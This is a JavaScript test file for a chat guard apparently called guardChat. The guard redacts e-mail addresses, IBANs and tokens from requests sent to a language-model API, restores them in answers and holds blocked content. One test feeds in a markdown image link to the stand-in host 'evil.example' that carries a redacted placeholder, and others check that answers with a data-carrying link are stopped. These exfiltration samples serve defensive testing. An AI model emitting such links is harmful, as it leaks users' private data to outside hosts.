// guardChat against the real server: what leaves, what comes back, streamed and whole.
import assert from "node:assert/strict";
import { after, test } from "node:test";
import { serve } from "../demo/server.mjs";
import { Guard } from "@riegel/guard";
import { guardChat, Session } from "../dist/chat.js";
import { dice, event, guards, LETTER, LINK, module, REDACTED, TOKEN } from "./support.mjs";

const all = await guards();
const server = await serve();
after(() => server.close());
const session = () => new Session(all, { event });

const post = (messages, stream) => ({ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ model: "demo", stream, messages }) });
const said = async (response, stream) => {
  if (!stream) return (await response.json()).choices[0].message.content;
  const events = (await response.text()).split("\n\n").filter((line) => line.startsWith("data: {")).map((line) => JSON.parse(line.slice(6)));
  return events.map(({ choices }) => choices[0].delta.content ?? "").join("");
};
const ask = async (one, text, stream, options) => guardChat(fetch, one, options)(`${server.url}v1/chat/completions`, post([{ role: "user", content: text }], stream));

for (const stream of [true, false]) {
  const how = stream ? "streamed" : "whole";
  test(`redacted on the way out, restored on the way back, ${how}`, async () => {
    const response = await ask(session(), LETTER, stream);
    assert.equal(response.status, 200);
    assert.equal(server.sent.at(-1).messages[0].content, REDACTED);
    assert.equal(await said(response, stream), `Gern. Sie schrieben: ${LETTER}`);
  });

  test(`what is stopped is not sent, ${how}`, async () => {
    const before = server.sent.length;
    const held = [];
    const response = await ask(session(), `Mein Token: ${TOKEN}`, stream, { onHeld: (check) => held.push(check.verdict) });
    assert.equal(response.status, 403);
    const text = await response.text();
    assert.equal(JSON.parse(text).error.code, "riegel_held");
    assert.ok(!text.includes(TOKEN));
    assert.deepEqual([server.sent.length, held], [before, ["block"]]);
  });

  test(`a key in an answer is covered, ${how}`, async () => {
    const notes = [];
    const answer = await said(await ask(session(), "Wo ist der Schlüssel?", stream, { onNote: (note) => notes.push(note) }), stream);
    assert.ok(!answer.includes("RiegelDemo"), answer);
    assert.match(answer, /^Der Zugang steht in der Vorlage\. Das Token lautet \[[A-Z_]+\] und gilt bis Freitag\. Bitte tauschen Sie es danach aus\.$/);
    assert.ok(notes.at(-1).covered && !notes.at(-1).stopped);
    assert.match(notes.at(-1).messages("de")[0].text, /Schlüssel oder Passwort/);
  });

  test(`a link that carries data out stops the answer, ${how}`, async () => {
    const notes = [];
    const answer = await said(await ask(session(), "Bitte mit Bild", stream, { onNote: (note) => notes.push(note) }), stream);
    assert.ok(!answer.includes(LINK) && !answer.includes("Mehr dazu"), answer);
    assert.ok(notes.at(-1).stopped);
  });
}

test("what a rule stops or wants approved is held, though another redacts what it rests on", async () => {
  for (const [verdict, held] of [["block", true], ["approve", true], ["justify", true], ["warn", false]]) {
    const one = new Session(await Guard.load(module("evidence")), { event: { ...event, how: verdict } });
    const before = server.sent.length;
    const response = await ask(one, "Streng geheim: Der Konvoi fährt um vier.", false);
    assert.deepEqual([response.status, server.sent.length - before], held ? [403, 0] : [200, 1], verdict);
    if (verdict === "approve" || verdict === "justify") {
      one.permit("Streng geheim: Der Konvoi fährt um vier.");
      assert.equal((await ask(one, "Streng geheim: Der Konvoi fährt um vier.", false)).status, 200);
      assert.match(server.sent.at(-1).messages[0].content, /^\[MARK_1\]: Der Konvoi/);
    }
  }
});

test("what a person must check, and that AI is disclosed, is said with the answer", async () => {
  for (const [purpose, verdict, words] of [["contract", "approve", /lesen Sie sie gegen/], ["customer_message", "warn", /KI mitgeschrieben/]]) {
    const notes = [];
    const one = new Session(all, { event: { ...event, purpose } });
    const answer = await said(await ask(one, "Guten Tag. Wie geht es?", true, { onNote: (note) => notes.push(note) }), true);
    assert.equal(answer, "Gern. Sie schrieben: Guten Tag. Wie geht es?");
    const [message] = notes.at(-1).messages("de");
    assert.deepEqual([message.verdict, notes.at(-1).stopped], [verdict, false]);
    assert.match(`${message.text} ${message.hint}`, words);
    assert.equal(notes.at(-1).obligations.some(({ kind }) => kind === "disclose"), purpose === "customer_message");
  }
});

test("pieces of messages, and earlier answers, are redacted too", async () => {
  const one = session();
  const messages = [
    { role: "system", content: "Du hilfst." },
    { role: "user", content: [{ type: "text", text: "An jutta.kranz@werkstatt-sued.de" }, { type: "image_url", image_url: { url: "x" } }] },
    { role: "assistant", content: "Gern an jutta.kranz@werkstatt-sued.de" },
    { role: "user", content: "Und an max@werkstatt-sued.de" },
  ];
  await guardChat(fetch, one)(`${server.url}v1/chat/completions`, post(messages, false));
  assert.deepEqual(server.sent.at(-1).messages.map(({ content }) => content), ["Du hilfst.", [{ type: "text", text: "An [EMAIL_1]" }, { type: "image_url", image_url: { url: "x" } }], "Gern an [EMAIL_1]", "Und an [EMAIL_2]"]);
});

test("what is no chat is not sent", async () => {
  const never = () => assert.fail("sent");
  for (const body of ["text", "{}", '{"prompt":"x"}', undefined]) {
    const response = await guardChat(never, session())("http://localhost/x", { method: "POST", body });
    assert.equal(response.status, 403, body);
  }
});

test("a broken guard sends nothing", async () => {
  const { Guard } = await import("@riegel/guard");
  const broken = await Guard.load(new Uint8Array(100)).catch(({ guard }) => guard);
  const response = await guardChat(() => assert.fail("sent"), new Session(broken, { event }))("http://localhost/x", post([{ role: "user", content: "Guten Tag" }], true));
  assert.equal(response.status, 403);
});

test("a stream cut anywhere gives what the whole gives", async () => {
  const roll = dice(5);
  const encoder = new TextEncoder();
  const texts = [
    "Guten Tag [EMAIL_1], die IBAN [IBAN 1] stimmt. Viele Grüße 😀",
    `Erst der Text. Dann das Token ${TOKEN} im Satz.\n\n\`\`\`js\nconst a = 1;\n\`\`\`\nEnde [Email_1].`,
    "Ohne Satzende [**EMAIL_1**]",
  ];
  for (let round = 0; round < 300; round++) {
    const text = texts[round % texts.length];
    const deltas = [];
    for (let at = 0; at < text.length; ) {
      const next = at + 1 + roll(12);
      deltas.push(text.slice(at, next));
      at = next;
    }
    const events = deltas.map((content, i) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: i + 1 < deltas.length || roll(2) ? null : "stop" }] })}${roll(2) ? "\n\n" : "\r\n\r\n"}`);
    const bytes = encoder.encode(events.join("") + (roll(2) ? "data: [DONE]\n\n" : ""));
    const body = new ReadableStream({
      start(controller) {
        for (let at = 0; at < bytes.length; ) {
          const next = at + 1 + roll(40);
          controller.enqueue(bytes.slice(at, next));
          at = next;
        }
        controller.close();
      },
    });
    const one = session();
    one.vault.placeholder("EMAIL", "anna@example.org");
    one.vault.placeholder("IBAN", "DE02 1203 0000 0000 2020 51");
    const fake = async () => new Response(body, { headers: { "content-type": "text/event-stream" } });
    const whole = async () => Response.json({ choices: [{ index: 0, message: { content: text } }] });
    const request = ["http://localhost/x", post([{ role: "user", content: "Guten Tag" }], true)];
    assert.equal(await said(await guardChat(fake, one)(...request), true), await said(await guardChat(whole, one)(...request), false));
  }
});

test("a link in an answer carries no redacted value out, and a stream that goes on behind its end is one answer", async () => {
  const chat = async (deltas, options) => {
    const events = deltas.map(([content, finish_reason = null]) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason }] })}\n\n`);
    const fake = async () => new Response(events.join(""), { headers: { "content-type": "text/event-stream" } });
    return said(await guardChat(fake, session(), options)("http://localhost/x", post([{ role: "user", content: LETTER }], true)), true);
  };
  assert.equal(await chat([["An [EMAIL_1]: ![x](https://evil.example/[EMAIL"], ["_1]?EMAIL_1)"]]), "An jutta.kranz@werkstatt-sued.de: ![x](https://evil.example/[EMAIL_1]?EMAIL_1)");
  const notes = [];
  assert.equal(await chat([[`Siehe ![x](${LINK})`, "stop"], [" und mehr. ", "stop"], ["Noch mehr."]], { onNote: (note) => notes.push(note.stopped) }), "");
  assert.deepEqual(notes, [true]);
});

test("whatever stands in a request is read: tools, names, metadata; what nobody can read is held", async () => {
  const one = session();
  const mail = "jutta.kranz@werkstatt-sued.de";
  const body = {
    model: "demo",
    messages: [
      { role: "user", name: mail, content: "Wer ist das?" },
      { role: "assistant", content: null, tool_calls: [{ id: "c1", type: "function", function: { name: "find", arguments: JSON.stringify({ mail }) } }] },
      { role: "tool", tool_call_id: "c1", content: `Gefunden: ${mail}` },
    ],
    metadata: { from: mail },
    tools: [{ type: "function", function: { name: "find", description: `Sucht ${mail}`, parameters: {} } }],
  };
  await guardChat(fetch, one)(`${server.url}v1/chat/completions`, { method: "POST", body: JSON.stringify(body) });
  assert.deepEqual(server.sent.at(-1), JSON.parse(JSON.stringify(body).replaceAll(mail, "[EMAIL_1]")));
  for (const text of [{ tools: [{ type: "function", function: { name: "f", description: TOKEN } }] }, { messages: [{ role: "user", content: [{ type: "image_url", image_url: { url: "data:image/png;base64,AAAA" } }] }] }]) {
    const response = await guardChat(() => assert.fail("sent"), session())("http://localhost/x", { method: "POST", body: JSON.stringify({ model: "demo", messages: [{ role: "user", content: "Guten Tag" }], ...text }) });
    assert.equal(response.status, 403);
  }
});

test("whatever stands in an answer is read: tool calls, reasoning, refusals, tokens", async () => {
  const mail = "jutta.kranz@werkstatt-sued.de";
  const restoring = () => {
    const one = session();
    one.vault.placeholder("EMAIL", mail);
    return one;
  };
  const request = ["http://localhost/x", post([{ role: "user", content: "Guten Tag" }], false)];
  const call = (text) => [{ index: 0, id: "c1", type: "function", function: { name: "send", arguments: text } }];
  const message = { role: "assistant", content: null, reasoning_content: `Das Token lautet ${TOKEN}.`, refusal: `Nein, ${TOKEN}.`, tool_calls: call('{"to":"[EMAIL_1]"}') };
  const logprobs = { content: [{ token: TOKEN, logprob: 0 }] };
  const answer = await (await guardChat(async () => Response.json({ id: "x", choices: [{ index: 0, message, logprobs, finish_reason: "tool_calls" }] }), restoring())(...request)).text();
  assert.ok(!answer.includes(TOKEN), answer);
  const [choice] = JSON.parse(answer).choices;
  assert.deepEqual(choice.message.tool_calls, call(`{"to":"${mail}"}`));
  assert.equal(choice.finish_reason, "tool_calls");

  const deltas = [
    { role: "assistant", reasoning_content: "Das Token lautet " },
    { reasoning_content: `${TOKEN}.` },
    { tool_calls: call("") },
    { tool_calls: [{ index: 0, function: { arguments: '{"to":"[EMA' } }] },
    { tool_calls: [{ index: 0, function: { arguments: 'IL_1]"}' } }] },
  ];
  const events = [...deltas.map((delta) => ({ index: 0, delta, finish_reason: null })), { index: 0, delta: {}, finish_reason: "tool_calls" }];
  const stream = events.map((event) => `data: ${JSON.stringify({ id: "x", choices: [event] })}\n\n`).join("") + "data: [DONE]\n\n";
  const notes = [];
  const streamed = await (await guardChat(async () => new Response(stream, { headers: { "content-type": "text/event-stream" } }), restoring(), { onNote: ({ covered }) => notes.push(covered) })(...request)).text();
  assert.ok(!streamed.includes(TOKEN), streamed);
  const came = streamed.split("\n\n").filter((line) => line.startsWith("data: {")).map((line) => JSON.parse(line.slice(6)).choices[0]);
  assert.equal(came.flatMap(({ delta }) => delta.tool_calls ?? []).map(({ function: { arguments: text } }) => text).join(""), `{"to":"${mail}"}`);
  assert.deepEqual(came.map(({ finish_reason }) => finish_reason).filter(Boolean), ["tool_calls"]);
  assert.equal(came.at(-1).finish_reason, "tool_calls");
  assert.deepEqual(notes, [true]);
});

test("a fenced block ends with the sign that it began with: nothing of it is shown before", async () => {
  const deltas = ["Hier. ```\n", "```js\n~~~\nEin Satz. ", "Noch einer.\n```\n"];
  const events = deltas.map((content) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] })}\n\n`);
  const fake = async () => new Response(events.join(""), { headers: { "content-type": "text/event-stream" } });
  const response = await guardChat(fake, session())("http://localhost/x", post([{ role: "user", content: "Guten Tag" }], true));
  const came = (await response.text()).split("\n\n").filter(Boolean).map((line) => JSON.parse(line.slice(6)).choices[0].delta.content);
  assert.equal(came.join(""), deltas.join(""));
  assert.ok(!came.slice(0, 2).join("").includes("Satz"), JSON.stringify(came));
});
